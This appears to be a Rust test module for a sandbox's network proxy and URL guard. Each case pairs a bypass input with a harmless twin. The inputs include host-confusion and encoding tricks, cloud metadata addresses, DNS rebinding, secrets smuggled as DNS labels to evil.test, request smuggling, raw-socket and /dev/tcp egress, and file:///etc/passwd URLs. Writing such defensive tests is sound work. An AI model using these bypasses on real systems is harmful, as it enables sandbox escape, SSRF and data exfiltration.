//! D: domains. What the proxy of a sandbox lets out, what goes around it, and what the guard
//! makes of a URL among arguments.

use super::Case;
use super::gate::reaching;
use super::proxy::Way;

pub(super) fn cases() -> Vec<Case> {
    [nothing(), hosts(), addresses(), resolved(), redirects(), around(), urls(), super::tunnels::cases()]
        .into_iter()
        .flatten()
        .collect()
}

const GRANTS: &str = "domains = { allow = [\"good.test\", \"*.sub.good.test\", \"**.both-good.test\", \"*.names.test\"] }\nnetworks = { allow = [\"10.9.0.0/16\"] }";

fn way() -> Way {
    Way::granted(GRANTS)
}

/// No list is no host.
fn nothing() -> Vec<Case> {
    let get = "curl -sS -m 10 --noproxy '' http://good.test:{port}/";
    let one = |id: &str, says: &str, grants: &str| {
        Case::new(id, says, Way::granted(grants).act(get, true), way().act(get, false))
    };
    vec![
        one("D1.01", "no word about domains", ""),
        one("D1.02", "an empty list of domains", "domains = { allow = [] }"),
        one("D1.03", "an empty list of networks beside it", "domains = { allow = [] }\nnetworks = { allow = [] }"),
        one("D1.04", "a network that covers the address, for a name", "networks = { allow = [\"151.101.0.0/16\"] }"),
        one("D11.01", "another port than the granted one", "domains = { allow = [\"good.test:1\"] }"),
        one("D11.02", "the default port is no other", "domains = { allow = [\"good.test:80\"] }"),
    ]
}

/// Each host twice: through CONNECT and in plain HTTP. As printf writes them.
fn hosts() -> Vec<Case> {
    let mut all = Vec::new();
    for (id, says, attack, twin) in [
        ("D2.01", "another host", "evil.test", "good.test"),
        ("D2.02", "a granted host as user information", "good.test@evil.test", "good.test"),
        ("D2.03", "with a password", "good.test:x@evil.test", "good.test"),
        ("D2.04", "an encoded at sign", "good.test%%40evil.test", "good.test"),
        ("D2.05", "a backslash", "evil.test\\\\.good.test", "good.test"),
        ("D2.06", "a fragment", "evil.test#.good.test", "good.test"),
        ("D2.07", "a question mark", "evil.test?.good.test", "good.test"),
        ("D2.08", "an encoded slash", "evil.test%%2f.sub.good.test", "a.sub.good.test"),
        ("D2.09", "a tab", "evil.test\\t.sub.good.test", "a.sub.good.test"),
        ("D3.01", "a trailing dot", "evil.test.", "good.test."),
        ("D3.02", "capital letters", "EVIL.TEST", "GOOD.test"),
        ("D3.03", "an empty label", "x..sub.good.test", "x.sub.good.test"),
        ("D3.04", "a leading dot", ".good.test", "good.test"),
        ("D3.05", "two trailing dots", "good.test..", "good.test."),
        ("D4.01", "a Cyrillic letter", "g\\xd0\\xbe\\xd0\\xbed.test", "good.test"),
        ("D4.02", "its punycode", "xn--gd-jbca.test", "good.test"),
        ("D4.03", "an ideographic full stop", "evil\\xe3\\x80\\x82test", "good.test"),
        ("D4.04", "fullwidth letters of another host", "\\xef\\xbd\\x85vil.test", "good.test"),
        ("D7.01", "NUL before a granted ending", "evil.test\\0.sub.good.test", "a.sub.good.test"),
        ("D7.02", "an encoded NUL", "evil.test%%00.sub.good.test", "a.sub.good.test"),
        ("D7.03", "a control character", "evil.test\\x01.sub.good.test", "a.sub.good.test"),
        ("D8.01", "a host that ends alike", "evilgood.test", "good.test"),
        ("D8.02", "a host that begins alike", "good.test.evil.test", "good.test"),
        ("D8.03", "a subdomain of a host", "x.good.test", "good.test"),
        ("D8.04", "the apex of a wildcard", "sub.good.test", "a.sub.good.test"),
        ("D8.05", "a wildcard's neighbour", "a.xsub.good.test", "a.b.sub.good.test"),
        ("D8.06", "beside a wildcard with apex", "xboth-good.test", "both-good.test"),
        ("D8.07", "above a wildcard with apex", "test", "a.both-good.test"),
        ("D8.08", "a star as a host", "*.sub.good.test", "a.sub.good.test"),
    ] {
        let connect = |host: &str| format!("CONNECT {host}:{{port}} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\nhello\\r\\n");
        let plain = |host: &str| {
            format!("GET http://{host}:{{port}}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n")
        };
        all.push(way().said(&format!("{id}a"), &format!("{says}, CONNECT"), &connect(attack), &connect(twin)));
        all.push(way().said(&format!("{id}b"), &format!("{says}, plain"), &plain(attack), &plain(twin)));
    }
    all
}

/// Literal addresses in every notation: a stranger's, and one of a granted network.
fn addresses() -> Vec<Case> {
    let mut all = Vec::new();
    for (id, says, attack, twin) in [
        ("D5.01", "dotted", "93.184.216.34", "10.9.0.1"),
        ("D5.02", "one number", "1572395042", "168361985"),
        ("D5.03", "hexadecimal", "0x5db8d822", "0x0a090001"),
        ("D5.04", "octal parts", "0135.0270.0330.042", "012.011.0.1"),
        ("D5.05", "two parts", "93.12113954", "10.589825"),
        ("D5.06", "three parts", "93.184.55330", "10.9.1"),
        ("D5.07", "mixed parts", "0x5d.0270.216.34", "0xa.011.0.1"),
        ("D5.08", "with a trailing dot", "93.184.216.34.", "10.9.0.1."),
        ("D5.09", "mapped into IPv6", "[::ffff:93.184.216.34]", "[::ffff:10.9.0.1]"),
        ("D5.10", "mapped, in hexadecimal", "[::ffff:5db8:d822]", "[::ffff:a09:1]"),
        ("D5.11", "compatible with IPv6", "[::10.9.0.1]", "[::ffff:10.9.0.1]"),
        ("D5.12", "through NAT64", "[64:ff9b::a09:1]", "[::ffff:10.9.0.1]"),
        ("D5.13", "through 6to4", "[2002:a09:1::1]", "[::ffff:10.9.0.1]"),
        ("D5.14", "an IPv6 address", "[2606:2800:220:1::1]", "10.9.255.254"),
        ("D5.15", "unspecified", "[::]", "10.9.0.1"),
        ("D5.16", "all zeroes", "0.0.0.0", "10.9.0.1"),
        ("D5.17", "nothing but zero", "0", "10.9.0.1"),
        ("D5.18", "loopback, short", "127.1", "10.9.1"),
        ("D5.19", "loopback, one number", "2130706433", "168361985"),
        ("D5.20", "loopback of IPv6", "[::1]", "[::ffff:10.9.0.1]"),
        ("D5.21", "with a zone", "[fe80::1%%25lo]", "10.9.0.1"),
        ("D6.01", "a private address", "10.0.0.5", "10.9.0.1"),
        ("D6.02", "just beside the granted network", "10.10.0.0", "10.9.255.255"),
        ("D6.03", "another private range", "172.16.0.1", "10.9.0.1"),
        ("D6.04", "the usual one at home", "192.168.1.1", "10.9.0.1"),
        ("D6.05", "shared address space", "100.64.1.1", "10.9.0.1"),
        ("D6.06", "cloud metadata", "169.254.169.254", "10.9.0.1"),
        ("D6.07", "Alibaba's metadata", "100.100.100.200", "10.9.0.1"),
        ("D6.08", "Azure's", "168.63.129.16", "10.9.0.1"),
        ("D6.09", "Oracle's", "192.0.0.192", "10.9.0.1"),
        ("D6.10", "Amazon's of IPv6", "[fd00:ec2::254]", "10.9.0.1"),
        ("D6.11", "a unique local address", "[fd12::1]", "10.9.0.1"),
    ] {
        let connect = |host: &str| format!("CONNECT {host}:{{port}} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\nhello\\r\\n");
        all.push(way().said(id, &format!("{says}: {attack}"), &connect(attack), &connect(twin)));
    }
    all
}

/// Granted names, and what a resolver makes of them.
fn resolved() -> Vec<Case> {
    let get = |host: &str| format!("http://{host}:{{port}}/");
    let mut all: Vec<Case> = [
        ("D9.01", "a name that points at loopback", "loopback"),
        ("D9.02", "at a private address", "private"),
        ("D9.03", "at cloud metadata", "metadata"),
        ("D9.04", "at shared address space", "shared"),
        ("D9.05", "at all zeroes", "zero"),
        ("D9.06", "at a public and a private address", "mixed"),
        ("D9.07", "at a private and a public address", "mixedlast"),
        ("D9.08", "another name that points at a private address", "alias"),
        ("D9.09", "at Alibaba's metadata", "ip-100-100-100-200"),
        ("D9.10", "at Azure's", "ip-168-63-129-16"),
        ("D9.11", "at Oracle's", "ip-192-0-0-192"),
        ("D9.12", "at another private range", "ip-172-31-255-255"),
        ("D9.13", "at the usual one at home", "ip-192-168-0-1"),
        ("D9.14", "at a benchmarking address", "ip-198-18-0-1"),
        ("D9.15", "at a documentation address", "ip-203-0-113-7"),
        ("D9.16", "at multicast", "ip-224-0-0-1"),
        ("D9.17", "at broadcast", "ip-255-255-255-255"),
        ("D9.18", "at a reserved address", "ip-240-0-0-1"),
        ("D9.19", "at loopback, far from its beginning", "ip-127-255-0-9"),
        ("D9.20", "at IPv6 loopback", "six-00000000000000000000000000000001"),
        ("D9.21", "at mapped loopback", "six-00000000000000000000ffff7f000001"),
        ("D9.22", "at a NAT64 form of metadata", "six-0064ff9b0000000000000000a9fea9fe"),
        ("D9.23", "at a 6to4 form of a private address", "six-20020a00000500000000000000000001"),
        ("D9.24", "at a unique local address", "six-fd000ec2000000000000000000000254"),
        ("D9.25", "at a link-local address", "six-fe800000000000000000000000000001"),
        ("D9.26", "at Teredo", "six-20010000000000000000000000000001"),
        ("D9.27", "at a compatible form of loopback", "six-0000000000000000000000007f000001"),
        ("D9.28", "at a public IPv4 and a private IPv6 address", "mixedsix"),
        ("D9.29", "another name that points at a public and a private address", "aliasmixed"),
    ]
    .into_iter()
    .map(|(id, says, host)| way().urls(id, says, &get(&format!("{host}.names.test")), &get("friend.names.test")))
    .collect();
    let twice =
        |host: &str| format!("for i in 1 2 3; do curl -sS -m 10 --noproxy '' http://{host}.names.test:{{port}}/; done");
    all.push(way().elsewhere().case(
        "D9.30",
        "a name that points elsewhere the second time",
        &twice("rebind-{tag}"),
        &twice("friend"),
    ));
    all.push(way().by_name().urls(
        "E2.20",
        "a secret as a label of a name, to the resolver",
        "http://{tag}.evil.test:{port}/",
        "http://{tag}.names.test:{port}/",
    ));
    all.push(way().by_name().said(
        "E2.21",
        "the same through CONNECT",
        "CONNECT {tag}.evil.test:{port} HTTP/1.1\\r\\n\\r\\n",
        "CONNECT {tag}.names.test:{port} HTTP/1.1\\r\\n\\r\\n",
    ));
    all
}

/// What an answer, or a second request, leads to.
fn redirects() -> Vec<Case> {
    let mut all = Vec::new();
    for (id, says, to) in [
        ("D10.01", "a redirect to another host", "http://evil.test:{port}/"),
        ("D10.02", "to a private address", "http://10.0.0.5:{port}/"),
        ("D10.03", "to cloud metadata", "http://169.254.169.254:{port}/"),
        ("D10.04", "to loopback", "http://127.0.0.1:{port}/"),
        ("D10.05", "without a scheme", "//evil.test:{port}/"),
    ] {
        let answer = format!("HTTP/1.1 302 Found\r\nlocation: {to}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
        let curl = "curl -sS -L -m 5 --max-redirs 2 --noproxy '' -H 'Authorization: Bearer x' http://good.test:{port}/";
        all.push(Case::new(id, says, way().answered(&answer).elsewhere().act(curl, true), way().act(curl, false)));
    }
    let first = "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n";
    all.push(way().elsewhere().said(
        "D12.01",
        "a second request on the same connection",
        &format!(
            "{first}GET http://evil.test:{{port}}/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n"
        ),
        &format!(
            "{first}GET http://good.test:{{port}}/2 HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n"
        ),
    ));
    for (id, says, attack) in [
        (
            "D12.02",
            "a Host header of another",
            "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n",
        ),
        (
            "D12.03",
            "two Host headers",
            "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n",
        ),
        (
            "D12.04",
            "a length and chunks: what follows is no request",
            "POST http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 60\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
        ),
        (
            "D12.05",
            "two lengths",
            "POST http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0\\r\\nContent-Length: 40\\r\\n\\r\\nGET /evil HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
        ),
        (
            "D12.06",
            "a header folded over a line",
            "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nX: a\\r\\n Host: evil.test\\r\\nConnection: close\\r\\n\\r\\n",
        ),
        (
            "D12.07",
            "a proxy's own credentials handed on",
            "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nProxy-Authorization: Basic evil\\r\\nConnection: close\\r\\n\\r\\n",
        ),
        (
            "D12.08",
            "a header named as one of the connection's",
            "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: x-evil\\r\\nX-Evil: evil\\r\\n\\r\\n",
        ),
        (
            "D12.09",
            "a line end within the address",
            "GET http://good.test:{port}/\\nevil HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n",
        ),
    ] {
        let twin = "GET http://good.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n";
        all.push(way().word("evil").said(id, says, attack, twin));
    }
    for (id, says, attack) in [
        ("D2.20", "no host at all", "GET / HTTP/1.1\\r\\nHost: evil.test:{port}\\r\\nConnection: close\\r\\n\\r\\n"),
        (
            "D2.21",
            "another scheme",
            "GET https://evil.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n",
        ),
        ("D11.10", "a port out of range", "CONNECT good.test:131072{port} HTTP/1.1\\r\\n\\r\\nhello\\r\\n"),
        ("D11.11", "two ports", "CONNECT good.test:443:{port} HTTP/1.1\\r\\n\\r\\nhello\\r\\n"),
        ("D11.12", "no port", "CONNECT good.test HTTP/1.1\\r\\n\\r\\nhello\\r\\n"),
        (
            "D12.10",
            "an upgrade to another protocol",
            "GET http://evil.test:{port}/ HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n",
        ),
    ] {
        all.push(way().said(id, says, attack, "CONNECT good.test:{port} HTTP/1.1\\r\\n\\r\\nhello\\r\\n"));
    }
    all
}

/// Around the proxy.
fn around() -> Vec<Case> {
    let twin = "import urllib.request\nurllib.request.build_opener(urllib.request.ProxyHandler({'http': 'http://127.0.0.1:3128'})).open('http://good.test:{port}/').read()";
    let mut all: Vec<Case> = [
        ("D13.01", "TCP", "import socket\ns = socket.create_connection(('93.184.216.34', {port}), 2); s.send(b'x')"),
        ("D13.02", "TCP to a granted address", "import socket\ns = socket.create_connection(('151.101.1.6', {port}), 2); s.send(b'x')"),
        ("D13.03", "TCP over IPv6", "import socket\ns = socket.socket(10, 1); s.settimeout(2); s.connect(('2606:2800:220:1::1', {port}))"),
        ("D13.04", "TCP to a mapped address", "import socket\ns = socket.socket(10, 1); s.settimeout(2); s.connect(('::ffff:93.184.216.34', {port}))"),
        ("D13.05", "TCP to loopback of the host", "import socket\ns = socket.create_connection(('127.0.0.1', {port}), 2); s.send(b'x')"),
        ("D13.06", "MPTCP", "import socket\ns = socket.socket(2, 1, 262); s.settimeout(2); s.connect(('93.184.216.34', {port}))"),
        ("D13.07", "TCP fast open", "import socket\ns = socket.socket(2, 1); s.settimeout(2); s.sendto(b'x', 0x20000000, ('93.184.216.34', {port}))"),
        ("D13.08", "fast open by an option", "import socket\ns = socket.socket(2, 1); s.settimeout(2); s.setsockopt(6, 30, 1); s.connect(('93.184.216.34', {port})); s.send(b'x')"),
        ("D13.09", "UDP", "import socket\ns = socket.socket(2, 2); s.sendto(b'x', ('93.184.216.34', {port}))"),
        ("D13.10", "UDP over IPv6", "import socket\ns = socket.socket(10, 2); s.sendto(b'x', ('2606:2800:220:1::1', {port}))"),
        ("D13.11", "UDP broadcast", "import socket\ns = socket.socket(2, 2); s.setsockopt(1, 6, 1); s.sendto(b'x', ('255.255.255.255', {port}))"),
        ("D13.12", "UDP multicast", "import socket\ns = socket.socket(2, 2); s.sendto(b'x', ('224.0.0.1', {port}))"),
        ("D13.13", "a connected UDP socket", "import socket\ns = socket.socket(2, 2); s.connect(('93.184.216.34', {port})); s.send(b'x')"),
        ("D13.14", "a non-blocking connect", "import socket, select\ns = socket.socket(2, 1); s.setblocking(False); s.connect_ex(('93.184.216.34', {port})); select.select([], [s], [], 1); s.send(b'x')"),
        ("D13.15", "a raw socket", "import socket\ns = socket.socket(2, 3, 255); s.sendto(b'x' * 40, ('93.184.216.34', {port}))"),
        ("D13.16", "a link brought up", "import socket, fcntl, struct\ns = socket.socket(2, 2); fcntl.ioctl(s, 0x8914, struct.pack('16sh', b'eth0', 1)); s.sendto(b'x', ('93.184.216.34', {port}))"),
    ]
    .into_iter()
    .map(|(id, says, attack)| way().python().case(id, &format!("{says}, around the proxy"), attack, twin))
    .collect();
    let dns = "import socket, struct\ns = socket.socket(2, 2); q = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l.encode() for l in '{tag}.evil.test'.split('.')) + b'\\0\\0\\1\\0\\1'\ns.sendto(q, ('127.0.0.99', 53))";
    let curl = "import urllib.request\nurllib.request.build_opener(urllib.request.ProxyHandler({'http': 'http://127.0.0.1:3128'})).open('http://{tag}.names.test:{port}/').read()";
    all.push(way().python().by_name().case("D13.20", "a question to the resolver itself", dns, curl));
    all.push(way().python().by_name().case(
        "D13.21",
        "a question by the C library",
        "import socket\nsocket.getaddrinfo('{tag}.evil.test', 80)",
        curl,
    ));
    for (id, says, script) in [
        ("D14.01", "the proxy left out", "curl -sS -m 3 --noproxy '*' http://evil.test:{port}/"),
        (
            "D14.02",
            "the proxy's variables gone",
            "env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY curl -sS -m 3 http://93.184.216.34:{port}/",
        ),
        ("D14.03", "bash's own sockets", "echo x > /dev/tcp/93.184.216.34/{port}"),
        ("D14.04", "bash's datagrams", "echo x > /dev/udp/93.184.216.34/{port}"),
        ("D14.05", "a proxy of one's own outside", "curl -sS -m 3 -x http://93.184.216.34:{port} http://good.test/"),
        (
            "D14.06",
            "the name given its address by the client",
            "curl -sS -m 3 --noproxy '*' --resolve good.test:{port}:93.184.216.34 http://good.test:{port}/",
        ),
    ] {
        all.push(way().case(id, says, script, "curl -sS -m 5 --noproxy '' http://good.test:{port}/"));
    }
    all
}

/// URLs among the arguments of a tool.
fn urls() -> Vec<Case> {
    [
        ("D2.40", "another host", "http://evil.test/", "http://good.test/"),
        ("D2.41", "user information", "http://good.test@evil.test/", "http://good.test/@evil.test"),
        ("D2.42", "user information of a granted host", "http://evil@good.test/", "http://good.test/evil"),
        ("D2.43", "a backslash", "http://evil.test\\\\@good.test/", "http://good.test/x"),
        ("D2.44", "an encoded host", "http://%65vil.test/", "http://%67ood.test/"),
        ("D2.45", "a tab in the host", "http://ev\\til.test/", "http://good.test/"),
        ("D2.46", "a line end before it", "\\nhttp://evil.test/", "http://good.test/"),
        ("D2.47", "spaces before it", "   http://evil.test/", "   http://good.test/"),
        ("D2.48", "no scheme", "evil.test/x", "good.test/x"),
        ("D2.49", "slashes only", "//evil.test/", "http://good.test//"),
        ("D2.50", "another scheme", "ftp://evil.test/", "https://good.test/"),
        ("D2.51", "a websocket", "ws://evil.test/", "ws://good.test/"),
        ("D2.52", "git over https", "git+https://evil.test/r", "git+https://good.test/r"),
        ("D2.53", "a remote by ssh", "ssh://git@evil.test/r", "https://good.test/r"),
        ("D2.54", "a file", "file:///etc/passwd", "https://good.test/"),
        ("D2.55", "data", "data:text/html,evil", "https://good.test/"),
        ("D2.56", "javascript", "javascript:alert(1)", "https://good.test/"),
        ("D2.57", "one slash", "http:/evil.test/", "http:/good.test/"),
        ("D2.58", "three slashes", "http:///evil.test/", "http:///good.test/"),
        ("D2.59", "backslashes for slashes", "http:\\\\\\\\evil.test/", "http://good.test/"),
        ("D3.40", "a trailing dot", "http://evil.test./", "http://good.test./"),
        ("D4.40", "a fullwidth full stop", "http://evil\\uFF0Etest/", "http://good\\uFF0Etest/"),
        ("D4.41", "a Cyrillic letter", "http://g\\u043e\\u043ed.test/", "http://g\\uFF4F\\uFF4Fd.test/"),
        ("D4.42", "zero width within the name", "http://ev\\u200bil.test/", "http://go\\u00ADod.test/"),
        ("D5.40", "an address as one number", "http://1572395042/", "http://168361985/"),
        ("D5.41", "an address in hexadecimal", "http://0x5d.0xb8.0xd8.0x22/", "http://0x0a.9.0.1/"),
        ("D5.42", "a mapped address", "http://[::ffff:169.254.169.254]/", "http://[::ffff:10.9.0.1]/"),
        ("D6.40", "cloud metadata", "http://169.254.169.254/latest", "http://10.9.0.1/latest"),
        ("D6.41", "loopback", "http://127.0.0.1:8080/", "http://10.9.0.1:8080/"),
        ("D6.42", "this machine by name", "http://localhost/", "http://good.test/"),
        ("D8.40", "a host that ends alike", "http://evilgood.test/", "http://x.good.test/"),
        ("D8.41", "a host that begins alike", "http://good.test.evil.test/", "http://good.test/evil.test"),
        ("D11.40", "another port than granted", "http://ported.test:8080/", "http://ported.test:8443/"),
        ("D11.41", "the default port where another is granted", "https://ported.test/", "https://ported.test:8443/"),
        ("D7.40", "NUL in the host", "http://evil.test\\u0000.good.test/", "http://x.good.test/"),
    ]
    .into_iter()
    .map(|(id, says, attack, twin)| {
        let json = |url: &str| format!("{{\"url\": \"{url}\"}}");
        reaching(id.to_owned(), &format!("{says}, as an argument"), "dial", &json(attack), &json(twin))
    })
    .collect()
}
